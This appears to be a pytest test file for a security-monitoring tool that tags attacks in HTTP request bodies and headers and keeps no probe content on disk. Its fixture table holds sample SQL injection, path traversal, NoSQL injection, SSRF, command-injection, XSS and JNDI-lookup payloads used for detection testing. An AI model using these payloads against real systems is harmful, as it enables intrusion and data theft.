"""What an app hands over of a request's values is searched for attacks, and then it is gone."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import polars as pl
import pytest

from tocsin.event.signatures import PROBES, match
from tocsin.intake.admit import admit
from tocsin.intake.origin import Origin
from tocsin.intake.parse import parse
from tocsin.vault import Vault, file_key

NOW = 1_795_424_400_000_000_000
ORIGIN = Origin(source="shop")
SECRET = "PAYLOADTHATMUSTNOTSTAY"


def taken(*events: dict[str, Any] | str) -> pl.DataFrame:
    """What is kept of events as they came over the wire."""
    lines = [
        event
        if isinstance(event, str)
        else json.dumps({"time": "2026-11-20T10:00:00Z", "kind": "request", **event})
        for event in events
    ]
    frame = parse("\n".join(lines).encode(), "tocsin", ORIGIN, NOW)
    return admit(frame, ORIGIN, now=NOW).frame


@pytest.mark.parametrize(
    ("probe", "tag"),
    [
        ({"probe_body": "id=1' OR '1'='1"}, "sig.sqli.body"),
        ({"probe_body": "name=bob\nfile=../../../../etc/passwd"}, "sig.traversal.body"),
        ({"probe_body": "filter.$ne=[]\nq={\"$ne\": null}"}, "sig.nosqli.body"),
        ({"probe_body": "url=http://169.254.169.254/latest/meta-data/"}, "sig.ssrf.body"),
        ({"probe_body": "host=1.1.1.1;cat /etc/hosts"}, "sig.cmdi.body"),
        ({"probe_body": "q=%3Cscript%3Ealert(1)%3C/script%3E"}, "sig.xss.body"),
        ({"probe_header": "x-api-version=${jndi:ldap://evil/a}"}, "sig.jndi.header"),
    ],
)  # fmt: skip
def test_an_attack_in_a_body_or_a_header_is_seen_in_its_place(
    probe: dict[str, str], tag: str
) -> None:
    assert tag in taken(probe)["tags"].to_list()[0]
    ((name, text),) = probe.items()
    assert tag in match(text, name), "one text at a time says the same"


def test_values_are_looked_at_one_by_one_and_their_own_line_ends_are_none() -> None:
    # "admin'--" ends its value here; in the second event it is followed by more of the same value.
    rows = taken(
        {"probe_body": "name=admin'--\ncity=Bern"}, {"probe_body": "note=first\x0bsecond line\x0b"}
    )
    assert rows["tags"].to_list() == [["sig.sqli.body"], None]


def test_lines_of_text_in_a_body_forge_no_log() -> None:
    text = "note=Hello\x0b2026-11-23 09:00:00 INFO login ok\x0bLocation: Bern\x0bregards"
    assert "tags" not in taken({"probe_body": text}).columns


def test_nothing_of_a_probe_is_kept_of_a_good_event() -> None:
    rows = taken({"probe_body": f"a={SECRET}", "probe_header": f"b={SECRET}"}, {"path": "/"})
    assert not set(PROBES) & set(rows.columns)
    assert SECRET not in rows.write_json()


@pytest.mark.parametrize(
    "line",
    [
        f'{{"time":"2026-11-20T10:00:00Z","probe_body":"a={SECRET}","status":"many"}}',
        f'{{"time":"2026-11-20T10:00:00Z","probe_body":"a=\\"{SECRET}", broken',
        f'{{"probe_header" : "a={SECRET}',
        f'{{"time":"2026-11-20T10:00:00Z","probe_body":["{SECRET}"]}}',
        f'{{"time":"2026-11-20T10:00:00Z","probe_body":{{"a":"{SECRET}"}}}}',
        f'{{"time":"x","kind":"nonsense","probe_body":"{SECRET}","probe_body":"{SECRET}"}}',
    ],
)
def test_nothing_of_a_probe_is_kept_of_an_event_that_is_not_understood(line: str) -> None:
    rows = taken(line, {"path": "/", "probe_body": "a=b"})
    assert rows.height == 2
    assert SECRET not in rows.write_json()


def test_a_probe_of_a_megabyte_is_cut_before_it_is_searched() -> None:
    rows = taken({"probe_body": "a=" + "x" * 1_000_000 + "' OR '1'='1"})
    assert "tags" not in rows.columns


def test_no_byte_of_a_probe_reaches_the_disk(tmp_path: Path) -> None:
    data = tmp_path / "data"
    frame = parse(
        "\n".join(
            json.dumps({"time": "2026-11-20T10:00:00Z", "kind": "request", "path": f"/{n}"}
            | {"probe_body": f"comment={SECRET}{n}", "probe_header": f"x={SECRET}{n}"})
            for n in range(100)
        ).encode(),
        "tocsin", ORIGIN, NOW,
    )  # fmt: skip
    key = file_key(tmp_path / "kek", create=True)
    with Vault.open(data, key, sealing="inline", epoch_seconds=3600.0) as vault:
        vault.append(admit(frame, ORIGIN, now=NOW), source="shop", batch_id=None).result(10)
        vault.seal(10)
        kept = pl.concat([shelf.scan().collect() for shelf in vault.shelves()], how="diagonal")
    assert kept.height == 100
    assert SECRET not in kept.write_json(), "decrypted"
    assert not any(
        SECRET.encode() in path.read_bytes() for path in data.rglob("*") if path.is_file()
    )
